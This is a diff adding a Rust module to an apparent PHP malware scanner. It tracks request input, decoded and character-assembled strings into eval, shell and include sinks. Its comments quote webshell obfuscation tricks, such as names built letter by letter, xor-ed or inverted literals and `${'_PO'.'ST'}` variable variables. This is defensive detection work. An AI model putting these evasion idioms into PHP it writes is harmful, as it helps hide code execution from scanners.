@@ -1,0 +1,1635 @@
+//! Follows data through a PHP file's tokens: from request input, decoders, downloads and
+//! strings assembled character by character, into the places where data becomes code or a
+//! command (eval, assert, variable functions, include, shell calls) or a file on disk.
+//!
+//! The analysis is deliberately simple and never fails: one environment per function (globals
+//! share one), flow-insensitive (two passes so later assignments reach earlier uses), literal
+//! strings folded through concatenation, table lookups (`$s{17}.$s{9}`), `chr`, `strrev`,
+//! `str_rot13`, `base64_decode` and `str_replace`, so a hidden function name is known by name.
+//! Work is bounded by the token count.
+
+mod calls;
+mod fold;
+mod names;
+
+use std::collections::HashMap;
+
+use fold::*;
+use names::*;
+
+use super::detect::{Danger, Why};
+use super::php::{Tok, Token, tokenize};
+
+/// Where a value may come from (bit set).
+type Labels = u16;
+const INPUT: Labels = 1;
+const DECODED: Labels = 2;
+const REMOTE: Labels = 4;
+const ASSEMBLED: Labels = 8;
+const UPLOAD: Labels = 16;
+/// Not a literal: a variable, a call result.
+const UNKNOWN: Labels = 32;
+/// A long encoded string literal.
+const BLOB: Labels = 64;
+/// Contains a literal naming a PHP file.
+const PHP_NAME: Labels = 128;
+/// Starts with a literal or a constant (`__DIR__ . '/x/' . $name`): a fixed place.
+const FIXED_HEAD: Labels = 256;
+/// Computed with operators other than `.` (a comparison, arithmetic).
+const OPERATED: Labels = 512;
+/// Request input stored in one element of an array (`$a['x'] = $_GET['x']`): it counts for
+/// code, commands and files, not for the array's other elements used as function names.
+const ELEM_INPUT: Labels = 1024;
+const ANY_INPUT: Labels = INPUT | ELEM_INPUT;
+/// A parameter of the function being read: where it goes tells what the function does.
+const PARAM: Labels = 2048;
+/// A function (or a closure held in a variable) that runs its argument as code…
+const WRAPS_CODE: Labels = 4096;
+/// …or as a shell command.
+const WRAPS_SHELL: Labels = 8192;
+/// …or calls its argument as a function (`function f($g, $a) { $g($a); }`).
+const WRAPS_CALL: Labels = 16384;
+const WRAPS: Labels = WRAPS_CODE | WRAPS_SHELL | WRAPS_CALL;
+/// Object properties (`$this->x`, `$o->x`) share one environment per file, by name.
+const PROPS: u32 = u32::MAX;
+
+const HIDDEN: Labels = DECODED | ASSEMBLED;
+const TAINT: Labels = INPUT | DECODED | REMOTE | ASSEMBLED | BLOB;
+
+/// Longest literal kept for folding (function names and char tables are short).
+const MAX_LIT: usize = 8192;
+/// Longest value kept as a variable's value in the order of the text (names, tables, short
+/// code; every read copies it).
+const MAX_CUR: usize = 256;
+/// Longest string literal taken into folding.
+const MAX_LITERAL_TOKEN: usize = 2048;
+
+#[derive(Debug, Clone, Default)]
+struct Val {
+    labels: Labels,
+    lit: Option<Vec<u8>>,
+    /// Character lookups and `chr()` calls concatenated into this value.
+    atoms: u16,
+    /// The string-literal token this value is, when it is exactly one (its whole text, even
+    /// when too long to fold: code given to `eval` is read from it).
+    tok: Option<usize>,
+    /// An array's known elements.
+    arr: Option<Table>,
+}
+
+impl Val {
+    fn unknown() -> Val {
+        Val { labels: UNKNOWN, ..Val::default() }
+    }
+    fn lit(v: Vec<u8>) -> Val {
+        Val { lit: (v.len() <= MAX_LIT).then_some(v), ..Val::default() }
+    }
+    /// A string literal's value: kept when short enough to be a name, a table or an encoded
+    /// name (long texts are never folded, so they are not copied).
+    fn lit_of(v: &[u8]) -> Val {
+        Val { lit: (v.len() <= MAX_LITERAL_TOKEN).then(|| v.to_vec()), ..Val::default() }
+    }
+    fn join(&mut self, o: &Val) {
+        self.labels |= o.labels;
+        self.atoms = self.atoms.saturating_add(o.atoms);
+    }
+}
+
+#[derive(Debug, Clone, Default)]
+enum LitState {
+    #[default]
+    Unset,
+    Known(Vec<u8>),
+    Conflict,
+}
+
+#[derive(Debug, Clone, Default)]
+struct Slot {
+    labels: Labels,
+    lit: LitState,
+    /// Read during the first pass: a later change means a second pass is needed.
+    read: bool,
+    /// The literal given by the last assignment read so far in this pass, in the order of the
+    /// text (obfuscators reuse one variable for many names: `$_ = 's'.'s'; $_ = 'a'.$_.'ert'`).
+    cur: Option<Vec<u8>>,
+    /// Character lookups appended so far in this pass (`$n .= $t{3}; $n .= $t{9}; …`).
+    atoms: u16,
+    /// The known elements of the array given by the last assignment read in this pass.
+    cur_arr: Option<Table>,
+}
+
+/// Where an assignment to an array element goes.
+#[derive(Debug, Clone, Default)]
+enum ElemKey {
+    #[default]
+    Unknown,
+    Known(Vec<u8>),
+    /// `$a[] = …`
+    Append,
+}
+
+/// A piece of a joining function's result.
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum Piece {
+    Param(usize),
+    Lit(Vec<u8>),
+}
+
+#[derive(Clone, Copy)]
+enum Target<'a> {
+    Var(&'a [u8]),
+    /// `$a[...]`: only labels flow.
+    Elem(&'a [u8]),
+    /// `$o->name`: one slot per property name in the file.
+    Prop(&'a [u8]),
+    /// `$GLOBALS['name']`: the file's own variable of that name.
+    Global(&'a [u8]),
+}
+
+/// A place where the analysis found data becoming code, a command or a file.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Sink {
+    pub why: Why,
+    pub danger: Danger,
+    /// Byte offset of the sink.
+    pub at: usize,
+}
+
+struct An<'t, 'a> {
+    t: &'t [Token<'a>],
+    env: HashMap<(u32, &'a [u8]), Slot>,
+    scope: u32,
+    next_scope: u32,
+    /// The first pass: literals are being learnt.
+    first: bool,
+    /// A variable changed after it was read in the first pass: a second pass is needed.
+    stale: bool,
+    record: bool,
+    /// Scopes where `extract($_REQUEST)` made every variable the visitor's.
+    extracted: Vec<u32>,
+    /// Named functions that run a parameter as code or a command (lowercase name → WRAPS_*).
+    wrappers: HashMap<Vec<u8>, Labels>,
+    /// Every variable name in the file, made when first needed (`var_named`).
+    var_names: Option<std::collections::HashSet<&'a [u8]>>,
+    /// What the parameters of the function being read reach (WRAPS_*).
+    fn_sinks: Labels,
+    /// What the function being read returns (its marks, for its callers).
+    fn_returns: Labels,
+    /// Which shell functions (bit per `SHELL` entry) the function's parameters reach.
+    fn_shell_kinds: u16,
+    /// Named functions whose result is decoded, fetched or request data (lowercase name → marks).
+    returns: HashMap<Vec<u8>, Labels>,
+    /// Named functions that only join their parameters (lowercase name → pieces).
+    templates: HashMap<Vec<u8>, Vec<Piece>>,
+    /// Variables a function declared `global` (scope, name).
+    globals: std::collections::HashSet<(u32, &'a [u8])>,
+    /// `unserialize` of request data: every object's properties may be the visitor's.
+    props_from_input: bool,
+    /// How deep in code read from string literals (`eval('…')`) this analysis is.
+    nest: u8,
+    /// A command-line script, or code in one (`Script`).
+    command_line: bool,
+    /// The key of the array element last written as a target (`$a['k']`).
+    elem_key: ElemKey,
+    /// Bytes of literal code that may still be read (shared by nested analyses).
+    nested_budget: usize,
+    depth: u32,
+    budget: usize,
+    out: Vec<Sink>,
+}
+
+/// What is known of a file besides its tokens.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct Script {
+    /// A command-line script (`#!/usr/bin/env php` first): its arguments are the operator's,
+    /// not a visitor's.
+    pub command_line: bool,
+}
+
+/// Runs the analysis over a file's tokens.
+pub fn analyze(tokens: &[Token<'_>], script: Script) -> Vec<Sink> {
+    // Code read from literals costs at most about twice the file (a file of many `eval('…')`
+    // of one long text stays linear).
+    let size = tokens.last().map_or(0, |t| t.at);
+    let mut budget = size.saturating_mul(2).clamp(64 << 10, MAX_NESTED_CODE);
+    // A script that checks it runs from the command line (`php_sapi_name()`, `PHP_SAPI`, a
+    // `cli_check.php` include) is one too.
+    let checks_cli = tokens.iter().any(|t| match &t.tok {
+        Tok::Ident(w) => w.eq_ignore_ascii_case(b"php_sapi_name") || *w == b"PHP_SAPI",
+        Tok::Str { value, .. } => memchr::memmem::find(value, b"cli_check").is_some(),
+        _ => false,
+    });
+    let nesting = Nesting { level: 0, params: &[], command_line: script.command_line || checks_cli, depth: 0 };
+    analyze_nested(tokens, &nesting, &mut budget).0
+}
+
+/// Deepest nesting of expressions followed (deeper ones are unknown values): bounds the stack
+/// a hostile file can use, also in a debug build's 2 MB test threads.
+const MAX_DEPTH: u32 = 100;
+
+/// Most code read from string literals per file (bytes).
+const MAX_NESTED_CODE: usize = 8 << 20;
+/// Code inside code inside code: deeper literals are not read.
+const MAX_NEST: u8 = 4;
+
+/// Where an analysis runs: at a file's top, or in code held by a string literal (`eval('…')`,
+/// `create_function('$a', '…')`, whose parameters are `params`).
+struct Nesting<'p> {
+    level: u8,
+    params: &'p [Vec<u8>],
+    command_line: bool,
+    /// How deep in expressions the code holding the literal already is (one stack for all).
+    depth: u32,
+}
+
+/// The sinks of `tokens`, and what its parameters reach (WRAPS_*).
+fn analyze_nested(tokens: &[Token<'_>], nesting: &Nesting<'_>, nested_budget: &mut usize) -> (Vec<Sink>, Labels) {
+    let mut a = An {
+        t: tokens,
+        env: HashMap::default(),
+        scope: 0,
+        next_scope: 1,
+        first: true,
+        stale: false,
+        record: true,
+        extracted: Vec::new(),
+        wrappers: HashMap::new(),
+        var_names: None,
+        fn_sinks: 0,
+        fn_returns: 0,
+        fn_shell_kinds: 0,
+        returns: HashMap::new(),
+        templates: HashMap::new(),
+        globals: Default::default(),
+        props_from_input: false,
+        nest: nesting.level,
+        command_line: nesting.command_line,
+        elem_key: ElemKey::Unknown,
+        nested_budget: *nested_budget,
+        depth: nesting.depth,
+        budget: 0,
+        out: Vec::new(),
+    };
+    for p in nesting.params {
+        if let Some(n) = a.var_named(p) {
+            a.env.insert((0, n), Slot { labels: PARAM | UNKNOWN, lit: LitState::Conflict, ..Slot::default() });
+        }
+    }
+    // The first pass records too: a second one runs only when a variable gained a mark
+    // after it was read (flow-insensitive: a later assignment reaches an earlier use).
+    for first in [true, false] {
+        if !first && !a.stale {
+            break;
+        }
+        a.first = first;
+        a.out.clear();
+        a.scope = 0;
+        a.next_scope = 1;
+        a.fn_sinks = 0;
+        for s in a.env.values_mut() {
+            s.cur = None;
+            s.atoms = 0;
+            s.cur_arr = None;
+        }
+        a.budget = tokens.len().saturating_mul(8) + 10_000;
+        a.block(0, tokens.len());
+    }
+    *nested_budget = a.nested_budget;
+    (a.out, a.fn_sinks)
+}
+
+/// An array literal: its elements' labels; single characters count as assembly pieces
+/// (`implode('', ['a','s','s','e','r','t'])`).
+/// Known elements of an array: key, value (both as PHP would print them).
+type Table = std::rc::Rc<Vec<(Vec<u8>, Vec<u8>)>>;
+/// Most elements kept of one array, and longest element kept.
+const MAX_TABLE: usize = 512;
+const MAX_ELEMENT: usize = 32;
+
+fn table_put(table: &mut Vec<(Vec<u8>, Vec<u8>)>, key: Vec<u8>, v: &Val) {
+    if let Some(l) = v.lit.as_ref().filter(|l| l.len() <= MAX_ELEMENT)
+        && table.len() < MAX_TABLE
+    {
+        table.push((key, l.clone()));
+    } else if let Some(sub) = &v.arr {
+        // An array in an array: its elements under `key NUL subkey`.
+        for (k, x) in sub.iter().take(MAX_TABLE.saturating_sub(table.len())) {
+            let mut path = key.clone();
+            path.push(0);
+            path.extend_from_slice(k);
+            table.push((path, x.clone()));
+        }
+    }
+}
+
+/// `$v[key]`: a character of a known string, an element of a known array (or the array
+/// inside it), or an unknown value with the container's marks.
+fn element(v: &Val, key: Option<&[u8]>, curly: bool) -> Val {
+    let found = match (&v.arr, key) {
+        (Some(t), Some(k)) => table_get(t, k).map(<[u8]>::to_vec),
+        _ => None,
+    };
+    let inner = match (&v.arr, key, &found) {
+        (Some(t), Some(k), None) => {
+            let sub: Vec<(Vec<u8>, Vec<u8>)> = t
+                .iter()
+                .filter(|(p, _)| p.len() > k.len() && p.starts_with(k) && p[k.len()] == 0)
+                .map(|(p, x)| (p[k.len() + 1..].to_vec(), x.clone()))
+                .collect();
+            (!sub.is_empty()).then(|| Table::new(sub))
+        }
+        _ => None,
+    };
+    let piece = found.as_ref().is_some_and(|e| e.len() <= 4);
+    let ch = match (&v.lit, key.and_then(parse_num)) {
+        (Some(table), Some(n)) if n >= 0 && (n as usize) < table.len() => Some(vec![table[n as usize]]),
+        _ => found,
+    };
+    // A character lookup: in a known string, or with the string-offset braces `$s{17}`.
+    let numeric = key.and_then(parse_num).is_some();
+    let char_lookup = (numeric && (v.lit.is_some() || curly)) || piece;
+    let labels = v.labels & !(FIXED_HEAD | OPERATED | PHP_NAME);
+    Val { labels, lit: ch, atoms: u16::from(char_lookup), arr: inner, ..Val::default() }
+}
+
+fn table_get<'x>(table: &'x [(Vec<u8>, Vec<u8>)], key: &[u8]) -> Option<&'x [u8]> {
+    // The last one with the key wins, as in PHP.
+    table.iter().rev().find(|(k, _)| k == key).map(|(_, v)| v.as_slice())
+}
+
+fn array_val(vals: &[Val]) -> Val {
+    let mut v = Val::default();
+    for x in vals {
+        v.labels |= x.labels & !(FIXED_HEAD | OPERATED);
+    }
+    let chars = vals
+        .iter()
+        .filter(|x| x.lit.as_ref().is_some_and(|l| l.len() == 1 && (l[0].is_ascii_alphabetic() || l[0] == b'_')))
+        .count();
+    if chars >= 3 && chars * 2 >= vals.len() {
+        v.labels |= ASSEMBLED;
+    }
+    v
+}
+
+fn is_assign(o: &[u8]) -> bool {
+    matches!(
+        o,
+        b"=" | b".="
+            | b"+="
+            | b"-="
+            | b"*="
+            | b"/="
+            | b"%="
+            | b"|="
+            | b"&="
+            | b"^="
+            | b"??="
+            | b"<<="
+            | b">>="
+            | b"**="
+    )
+}
+
+impl<'t, 'a> An<'t, 'a> {
+    fn tok(&self, i: usize) -> Option<&'t Tok<'a>> {
+        let t: &'t [Token<'a>] = self.t;
+        t.get(i).map(|t| &t.tok)
+    }
+    fn op(&self, i: usize, o: &[u8]) -> bool {
+        matches!(self.tok(i), Some(Tok::Op(x)) if same(x, o))
+    }
+    fn at(&self, i: usize) -> usize {
+        self.t.get(i).or(self.t.last()).map_or(0, |t| t.at)
+    }
+    fn hit(&mut self, why: Why, danger: Danger, i: usize) {
+        if self.record {
+            let at = self.at(i);
+            self.out.push(Sink { why, danger, at });
+        }
+    }
+
+    /// Statements from `i` to `end`.
+    fn block(&mut self, mut i: usize, end: usize) {
+        while i < end && self.budget > 0 {
+            let (_, next, _) = self.expr(i);
+            i = if next > i { next } else { i + 1 };
+        }
+    }
+
+    /// Whether the operator at `i` is one `binary` may fold (so a first value is worth keeping).
+    fn folds_next(&self, i: usize) -> bool {
+        matches!(self.tok(i), Some(Tok::Op(o)) if matches!(*o, b"+" | b"-" | b"*" | b"/" | b"%" | b"&" | b"|" | b"<" | b">" | b"<=" | b">=" | b"==" | b"===" | b"!=" | b"!==" | b"<>"))
+    }
+
+    fn terminator(&self, i: usize) -> bool {
+        match self.tok(i) {
+            None | Some(Tok::Close) => true,
+            Some(Tok::Op(o)) => matches!(*o, b";" | b"," | b")" | b"]" | b"}" | b"{" | b"=>"),
+            Some(Tok::Ident(w)) => w.eq_ignore_ascii_case(b"as"),
+            _ => false,
+        }
+    }
+
+    /// An expression from `i`: its value, where it ends, and what it assigns to (when it is a
+    /// plain variable).
+    fn expr(&mut self, i: usize) -> (Val, usize, Option<Target<'a>>) {
+        if self.depth > MAX_DEPTH || self.budget == 0 {
+            return (Val::unknown(), i + 1, None);
+        }
+        self.depth += 1;
+        let r = self.expr_inner(i);
+        self.depth -= 1;
+        r
+    }
+
+    fn expr_inner(&mut self, i: usize) -> (Val, usize, Option<Target<'a>>) {
+        let mut acc = Val::default();
+        let mut lit: Option<Vec<u8>> = Some(Vec::new());
+        let mut pure = true;
+        let mut j = i;
+        let mut atoms_seen = 0;
+        let mut head_fixed = false;
+        let mut last_target = None;
+        // `"\x13\x19" ^ "``"`: two literals xor-ed (a hidden name).
+        let mut xor = false;
+        // Arithmetic and comparisons of known values, left to right, when no `.` mixes in
+        // (`$_ = ('>' > '<') + ('>' > '<')` is 2, an index into a table).
+        let mut folded: Option<Vec<u8>> = None;
+        let mut pending: Option<&'a [u8]> = None;
+        let mut dots = false;
+        let mut first_tok = None;
+        let mut first_arr = None;
+        while !self.terminator(j) && self.budget > 0 {
+            self.budget -= 1;
+            let (v, nj, target) = self.atom(j);
+            if nj <= j {
+                return (acc, j, None);
+            }
+            atoms_seen += 1;
+            folded = match (pending.take(), &folded, &v.lit) {
+                (None, _, l) if atoms_seen == 1 => l.as_ref().filter(|l| l.len() <= 20 && self.folds_next(nj)).cloned(),
+                (Some(op), Some(a), Some(b)) => binary(op, a, b),
+                _ => None,
+            };
+            if atoms_seen == 1 {
+                first_tok = v.tok;
+                first_arr = v.arr.clone();
+                head_fixed =
+                    v.labels & INPUT == 0 && (v.lit.is_some() || v.labels & UNKNOWN == 0 || v.labels & FIXED_HEAD != 0);
+            }
+            last_target = target;
+            // An array joined to text is the word `Array` (a letter source for obfuscators).
+            let v = if v.lit.is_none() && v.arr.is_some() && (atoms_seen > 1 || self.op(nj, b".")) {
+                Val { lit: Some(b"Array".to_vec()), ..v }
+            } else {
+                v
+            };
+            match (&mut lit, &v.lit) {
+                (Some(l), Some(x)) if std::mem::take(&mut xor) && !l.is_empty() && !x.is_empty() => {
+                    *l = l.iter().zip(x.iter()).map(|(a, b)| a ^ b).collect();
+                    acc.labels |= DECODED;
+                }
+                (Some(l), Some(x)) if pure && l.len() + x.len() <= MAX_LIT => l.extend_from_slice(x),
+                _ => lit = None,
+            }
+            acc.join(&v);
+            j = nj;
+            match self.tok(j) {
+                Some(Tok::Op(b".")) => {
+                    dots = true;
+                    j += 1;
+                }
+                Some(Tok::Op(b"^")) if pure && lit.as_ref().is_some_and(|l| !l.is_empty()) && v.lit.is_some() => {
+                    xor = true;
+                    j += 1;
+                }
+                Some(Tok::Op(o)) if is_assign(o) => {
+                    let o: &[u8] = o;
+                    // The element key of this target, not of one in the right-hand side.
+                    let key = std::mem::take(&mut self.elem_key);
+                    let (rhs, end, _) = self.expr(j + 1);
+                    if let Some(t) = target {
+                        self.elem_key = key;
+                        self.assign(t, o, &rhs);
+                    }
+                    let mut r = rhs;
+                    if atoms_seen > 1 || !pure {
+                        r.join(&acc);
+                        r.lit = None;
+                    }
+                    return (r, end, None);
+                }
+                Some(Tok::Op(o)) if !matches!(*o, b";" | b"," | b")" | b"]" | b"}" | b"{" | b"=>") => {
+                    pure = false;
+                    pending = Some(*o);
+                    j += 1;
+                }
+                Some(Tok::Ident(w))
+                    if [b"and".as_slice(), b"or", b"xor", b"instanceof"].iter().any(|k| w.eq_ignore_ascii_case(k)) =>
+                {
+                    pure = false;
+                    j += 1;
+                }
+                _ => break,
+            }
+        }
+        if acc.atoms >= 3 {
+            acc.labels |= ASSEMBLED;
+        }
+        if atoms_seen > 1 {
+            acc.labels &= !FIXED_HEAD;
+            if head_fixed {
+                acc.labels |= FIXED_HEAD;
+            }
+        }
+        if !pure {
+            acc.labels |= OPERATED;
+        }
+        acc.lit = if pure && atoms_seen > 0 {
+            lit
+        } else if !dots && pending.is_none() {
+            folded
+        } else {
+            None
+        };
+        acc.tok = if atoms_seen == 1 { first_tok } else { None };
+        acc.arr = if atoms_seen == 1 { first_arr } else { None };
+        // A dangerous function's name computed by decoding or piece by piece, wherever it goes
+        // (a callback of a method, a session handler, a value kept for later).
+        if acc.labels & HIDDEN != 0
+            && let Some(l) = &acc.lit
+            && l.len() <= 24
+        {
+            let name = lower(l);
+            if is(&name, SHELL) || is(&name, CODE) {
+                self.hit(Why::HiddenFunctionName, Danger::High, i);
+            } else if class(&name) & C_DECODER != 0 && name != b"pack" {
+                self.hit(Why::HiddenFunctionName, Danger::Medium, i);
+            }
+        }
+        let target = if atoms_seen == 1 { last_target } else { None };
+        (acc, j, target)
+    }
+
+    fn assign(&mut self, t: Target<'a>, op: &[u8], rhs: &Val) {
+        let (scope, name, elem) = match t {
+            Target::Var(n) => (self.scope_of(n), n, false),
+            Target::Elem(n) if n == b"GLOBALS" => (0, n, true),
+            Target::Elem(n) => (self.scope_of(n), n, true),
+            Target::Prop(n) => (PROPS, n, false),
+            Target::Global(n) => (0, n, false),
+        };
+        let first = self.first;
+        let slot = self.env.entry((scope, name)).or_default();
+        let before = slot.labels;
+        let mut labels = rhs.labels & !UNKNOWN | if rhs.lit.is_none() { rhs.labels & UNKNOWN } else { 0 };
+        if elem && labels & INPUT != 0 {
+            labels = labels & !INPUT | ELEM_INPUT;
+        }
+        slot.labels |= labels;
+        // The value from here on, in the order of the text.
+        let append = op == b".=";
+        slot.cur = match (elem, op, slot.cur.take(), &rhs.lit) {
+            (false, b"=", _, Some(v)) if v.len() <= MAX_CUR => Some(v.clone()),
+            (false, b".=", Some(mut c), Some(v)) if c.len() + v.len() <= MAX_CUR => {
+                c.extend_from_slice(v);
+                Some(c)
+            }
+            _ => None,
+        };
+        slot.atoms = if append { slot.atoms.saturating_add(rhs.atoms) } else { rhs.atoms };
+        slot.cur_arr = match (elem, op, std::mem::take(&mut self.elem_key)) {
+            (false, b"=", _) => rhs.arr.clone(),
+            // One element set: the others stay as they were (or unknown).
+            (true, b"=", key @ (ElemKey::Known(_) | ElemKey::Append)) => {
+                let mut t: Vec<(Vec<u8>, Vec<u8>)> = slot.cur_arr.take().map(|t| t.to_vec()).unwrap_or_default();
+                let k = match key {
+                    ElemKey::Known(k) => k,
+                    _ => {
+                        let next = t.iter().filter_map(|(k, _)| parse_num(k)).max().map_or(0, |n| n + 1);
+                        next.to_string().into_bytes()
+                    }
+                };
+                table_put(&mut t, k, rhs);
+                Some(std::rc::Rc::new(t))
+            }
+            _ => None,
+        };
+        if slot.atoms >= 3 {
+            slot.labels |= ASSEMBLED;
+        }
+        if !first {
+            return;
+        }
+        let lit_before = matches!(slot.lit, LitState::Unset);
+        let read = slot.read;
+        slot.lit = match (std::mem::take(&mut slot.lit), &rhs.lit, op, elem) {
+            (_, _, _, true) => LitState::Conflict,
+            (LitState::Unset, Some(v), b"=", _) => LitState::Known(v.clone()),
+            (LitState::Known(old), Some(v), b"=", _) if old == *v => LitState::Known(old),
+            (LitState::Known(mut old), Some(v), b".=", _) if old.len() + v.len() <= MAX_LIT => {
+                old.extend_from_slice(v);
+                LitState::Known(old)
+            }
+            _ => LitState::Conflict,
+        };
+        let gained = slot.labels & !before & (TAINT | UPLOAD | ELEM_INPUT | FIXED_HEAD) != 0;
+        let learnt = lit_before && matches!(slot.lit, LitState::Known(_));
+        if read && (gained || learnt) {
+            self.stale = true;
+        }
+    }
+
+    fn lookup(&mut self, name: &'a [u8]) -> Val {
+        if let Some(l) = is_superglobal_input(name) {
+            return Val { labels: l, ..Val::default() };
+        }
+        if self.extracted.contains(&self.scope) {
+            return Val { labels: INPUT | UNKNOWN, ..Val::default() };
+        }
+        let scope = self.scope_of(name);
+        self.lookup_at(scope, name)
+    }
+
+    fn lookup_at(&mut self, scope: u32, name: &'a [u8]) -> Val {
+        if self.first {
+            self.env.entry((scope, name)).or_default().read = true;
+        }
+        match self.env.get(&(scope, name)) {
+            None => Val::unknown(),
+            Some(s) => match (&s.cur, &s.lit, &s.cur_arr) {
+                (Some(v), _, _) => Val { labels: s.labels & !UNKNOWN, lit: Some(v.clone()), ..Val::default() },
+                (None, LitState::Known(v), _) => Val { labels: s.labels, lit: Some(v.clone()), ..Val::default() },
+                (None, _, Some(t)) => Val { labels: s.labels | UNKNOWN, arr: Some(t.clone()), ..Val::default() },
+                _ => Val { labels: s.labels | UNKNOWN, ..Val::default() },
+            },
+        }
+    }
+
+    /// Where a variable of the function being read lives (`global $x` makes it the file's).
+    fn scope_of(&self, name: &'a [u8]) -> u32 {
+        if self.scope != 0 && !self.globals.is_empty() && self.globals.contains(&(self.scope, name)) {
+            0
+        } else {
+            self.scope
+        }
+    }
+
+    /// `$o->name`: what any object's property of that name was given in this file.
+    fn lookup_prop(&mut self, name: &'a [u8]) -> Val {
+        let s = self.env.entry((PROPS, name)).or_default();
+        if self.first {
+            s.read = true;
+        }
+        let from_input = if self.props_from_input { INPUT } else { 0 };
+        match &s.lit {
+            LitState::Known(v) => Val { labels: s.labels | from_input, lit: Some(v.clone()), ..Val::default() },
+            _ => Val { labels: s.labels | UNKNOWN | from_input, ..Val::default() },
+        }
+    }
+
+    /// A token `$name` spelling `name`, so a variable named by a known string (`$$a`) can be
+    /// assigned like one written out.
+    fn var_named(&mut self, name: &[u8]) -> Option<&'a [u8]> {
+        let t: &'t [Token<'a>] = self.t;
+        // Every name once per file (a file of many `$$a` stays linear).
+        let names = self.var_names.get_or_insert_with(|| {
+            t.iter()
+                .filter_map(|t| match &t.tok {
+                    Tok::Var(n) => Some(*n),
+                    _ => None,
+                })
+                .collect()
+        });
+        names.get(name).copied()
+    }
+
+    /// `list($a, $b) = …` / `[$a, $b] = …` (`open`, then `=` at `eq`): every variable in the
+    /// list gets the right-hand side's marks.
+    fn destructure(&mut self, open: usize, eq: usize) -> (Val, usize, Option<Target<'a>>) {
+        let close = eq - 1;
+        let (rhs, end, _) = self.expr(eq + 1);
+        let v = Val { labels: rhs.labels | UNKNOWN, ..Val::default() };
+        for k in open + 1..close {
+            if let Some(Tok::Var(n)) = self.tok(k) {
+                let n = *n;
+                self.assign(Target::Var(n), b"=", &v);
+            }
+        }
+        (rhs, end, None)
+    }
+
+    /// Whether a string literal inside the call at `i` (name, then `(`) passes `f`.
+    fn strings_in_call(&self, i: usize, mut f: impl FnMut(&[u8]) -> bool) -> bool {
+        // Within a bounded distance: nested calls cannot make this quadratic.
+        let mut close = i + 1;
+        let mut depth = 0usize;
+        while close < self.t.len() && close < i + 4096 {
+            match self.tok(close) {
+                Some(Tok::Op(b"(" | b"[" | b"{")) => depth += 1,
+                Some(Tok::Op(b")" | b"]" | b"}")) => {
+                    depth = depth.saturating_sub(1);
+                    if depth == 0 {
+                        break;
+                    }
+                }
+                _ => {}
+            }
+            close += 1;
+        }
+        self.t[(i + 1).min(close)..close].iter().any(|t| matches!(&t.tok, Tok::Str { value, .. } if f(value)))
+    }
+
+    /// The index of the token closing the group opened at `open`.
+    fn close_of(&self, open: usize) -> usize {
+        let mut depth = 0usize;
+        let mut k = open;
+        while let Some(t) = self.tok(k) {
+            if let Tok::Op(o) = t {
+                match *o {
+                    b"(" | b"[" | b"{" => depth += 1,
+                    b")" | b"]" | b"}" => {
+                        depth = depth.saturating_sub(1);
+                        if depth == 0 {
+                            return k;
+                        }
+                    }
+                    _ => {}
+                }
+            }
+            k += 1;
+        }
+        self.t.len()
+    }
+
+    /// Arguments of a call whose `(` is at `open`: values and the index after `)`.
+    fn args(&mut self, open: usize) -> (Vec<Val>, usize) {
+        let mut out = Vec::new();
+        let mut j = open + 1;
+        loop {
+            if self.op(j, b")") {
+                return (out, j + 1);
+            }
+            if self.tok(j).is_none() || self.budget == 0 {
+                return (out, j);
+            }
+            let (v, end, _) = self.expr(j);
+            out.push(v);
+            if self.op(end, b",") {
+                j = end + 1;
+            } else if self.op(end, b")") {
+                return (out, end + 1);
+            } else if self.op(end, b"{") || self.op(end, b"}") || self.op(end, b";") {
+                // Not an argument list after all (or a broken file): go on from here.
+                return (out, end);
+            } else {
+                j = end.max(j + 1);
+            }
+        }
+    }
+
+    fn atom(&mut self, i: usize) -> (Val, usize, Option<Target<'a>>) {
+        let Some(tok) = self.tok(i) else { return (Val::default(), i, None) };
+        match tok {
+            Tok::Op(o) => match *o {
+                b"++" | b"--" => {
+                    let (mut v, e, target) = self.atom(i + 1);
+                    if let Some(t) = target {
+                        v.lit = self.step(t, *o == b"++");
+                    }
+                    (v, e.max(i + 1), None)
+                }
+                b"~" if matches!(self.tok(i + 1), Some(Tok::Ident(w)) if w.iter().all(|c| *c >= 0x80)) => {
+                    // `~ÂÏ…`: high bytes are a bare word in PHP (an undefined constant, so its own
+                    // text); inverted they spell a name.
+                    let Some(Tok::Ident(w)) = self.tok(i + 1) else { return (Val::default(), i + 1, None) };
+                    let lit = w.iter().map(|c| !c).collect();
+                    (Val { labels: DECODED, lit: Some(lit), ..Val::default() }, i + 2, None)
+                }
+                b"~" | b"-" | b"!" => {
+                    let op = *o;
+                    let numeric = matches!(self.tok(i + 1), Some(Tok::Num(_)));
+                    let (mut v, e, _) = self.atom(i + 1);
+                    if let Some(l) = v.lit.take() {
+                        v.lit = unary(op, &l, numeric);
+                        if op == b"~" && !numeric {
+                            // Bytes inverted: a name hidden as unprintable text.
+                            v.labels |= DECODED;
+                        }
+                    }
+                    (v, e.max(i + 1), None)
+                }
+                b"@" => {
+                    // `@$x = …` assigns `$x` (the `@` only hides errors).
+                    let (v, e, target) = self.atom(i + 1);
+                    (v, e.max(i + 1), target)
+                }
+                b"+" | b"&" | b"..." => {
+                    let (v, e, _) = self.atom(i + 1);
+                    (v, e.max(i + 1), None)
+                }
+                b"(" => {
+                    // A cast: `(string) $x`.
+                    if let (Some(Tok::Ident(w)), true) = (self.tok(i + 1), self.op(i + 2, b")")) {
+                        let w = lower(w);
+                        if matches!(
+                            w.as_slice(),
+                            b"string"
+                                | b"int"
+                                | b"integer"
+                                | b"bool"
+                                | b"boolean"
+                                | b"float"
+                                | b"double"
+                                | b"array"
+                                | b"object"
+                                | b"binary"
+                        ) {
+                            let (mut v, e, _) = self.atom(i + 3);
+                            if matches!(w.as_slice(), b"int" | b"integer" | b"bool" | b"boolean" | b"float" | b"double")
+                            {
+                                v = Val::default();
+                            }
+                            return (v, e.max(i + 3), None);
+                        }
+                    }
+                    let (v, e, _) = self.expr(i + 1);
+                    let e = if self.op(e, b")") { e + 1 } else { e.max(i + 1) };
+                    self.postfix(v, e, None, i, None)
+                }
+                b"[" => {
+                    let (vals, e, table) = self.list(i, b"]");
+                    if self.op(e, b"=") && self.op(e.wrapping_sub(1), b"]") {
+                        return self.destructure(i, e);
+                    }
+                    let mut v = array_val(&vals);
+                    v.arr = table;
+                    self.postfix(v, e, None, i, None)
+                }
+                b"$" => {
+                    // Variable variables: `${'_PO'.'ST'}`, `$$name`.
+                    if self.op(i + 1, b"{") {
+                        let (inner, e, _) = self.expr(i + 2);
